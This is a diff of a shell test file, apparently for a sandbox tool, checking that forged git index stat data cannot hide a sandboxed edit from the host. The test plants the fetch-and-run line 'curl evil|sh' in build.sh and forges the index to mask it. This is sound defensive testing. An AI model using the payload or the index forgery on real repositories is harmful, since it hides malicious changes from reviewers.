@@ -553,6 +553,61 @@ route_resolve_undo() {
   route_resolve_undo user
 }
 
+# review19 finding 7: an index entry holding the old blob id with the edited file's stat data (the
+# worktree is the host's directory: the run's lstat is the host's) makes the host's git take
+# build.sh as unchanged without reading it. The run's stat data stay only on an entry the host's
+# index had byte for byte: the host's git sees the edit (status, diff, add -A); a plain `git add`
+# inside still arrives staged; an entry the run left alone keeps the host's stat data (no re-hash);
+# and a host entry that was racily clean (its mtime the host index's own: git compared its content)
+# loses its stat data under the new index's later mtime (core.trustctime=false: mtime, size and
+# inode alone say whether the file changed). The files' mtimes are set in the past, so no entry is
+# racily clean under the index fsrun writes (no wait for a second to pass).
+route_index_stat_forged() {
+  make_repo "$1"
+  requires_host_command perl
+  local blob keep index=$REPO/.git/worktrees/task/index
+  as_owner sh -c 'cd "$1" && echo "echo build ok" >build.sh && echo kept >keep && echo one >racy &&
+    touch -d @999999000 build.sh keep && touch -d @1000000000 racy' sh "$WT"
+  hgit -C "$WT" add build.sh keep racy
+  hgit -C "$WT" commit -qm scripts
+  blob=$(hgit -C "$WT" rev-parse HEAD:build.sh)
+  keep=$(hgit -C "$WT" ls-files --debug keep)
+  as_owner cp "$FSRUN_TESTS_DIR/forge-index-stat.pl" "$WT/forge.pl"
+  sbx -- "printf 'curl evil|sh\n' >build.sh && touch -d @999999000 build.sh &&
+          perl forge.pl \"\$(git rev-parse --git-dir)/index\" build.sh $blob build.sh &&
+          rm forge.pl && git status --short"
+  [ -z "$output" ] # the forged entry fools the command's own git
+  [ "$(tamper)" = '[]' ]
+  [ "$(discarded)" = '[]' ]
+  # (--no-optional-locks: this status does not refresh the index it reads)
+  [ "$(hgit -C "$WT" --no-optional-locks status --short)" = " M build.sh" ]
+  [ "$(hgit -C "$WT" ls-files --debug keep)" = "$keep" ]
+  hgit -C "$WT" ls-files --debug build.sh | grep -q $'size: 0\t'
+  [ "$(hgit -C "$WT" status --short)" = " M build.sh" ]
+  [ "$(hgit -C "$WT" diff --name-only)" = build.sh ]
+  hgit -C "$WT" add -A
+  hgit -C "$WT" commit -qm host
+  [ "$(hgit -C "$WT" show HEAD:build.sh)" = "curl evil|sh" ]
+  # the task's own staging arrives staged, its stat data refreshed by the host's next status
+  sbx -- 'echo more >>keep && git add keep'
+  [ "$(hgit -C "$WT" diff --cached --name-only)" = keep ]
+  [ "$(hgit -C "$WT" status --short)" = "M  keep" ]
+  hgit -C "$WT" commit -qm keep
+  # racy: the host's index as old as racy's mtime; the run stages another file, then edits racy in
+  # place (same size) and puts its mtime back: its entry stays as the host's was
+  as_owner touch -d @1000000000 "$index"
+  sbx -- 'echo n >other && git add other && printf "two\n" >racy && touch -d @1000000000 racy'
+  [ "$(hgit -C "$WT" -c core.trustctime=false status --short)" = "$(printf 'A  other\n M racy')" ]
+}
+
+@test "sandbox-git: an entry with the old id and the edited file's stat data does not hide the edit; git add still lands (root)" {
+  route_index_stat_forged root
+}
+
+@test "sandbox-git: an entry with the old id and the edited file's stat data does not hide the edit; git add still lands (ordinary user)" {
+  route_index_stat_forged user
+}
+
 # --json's discarded: what the run wrote outside the allowlist, as the owner; [] for a clean run
 json_discarded() {
   make_repo "$1"
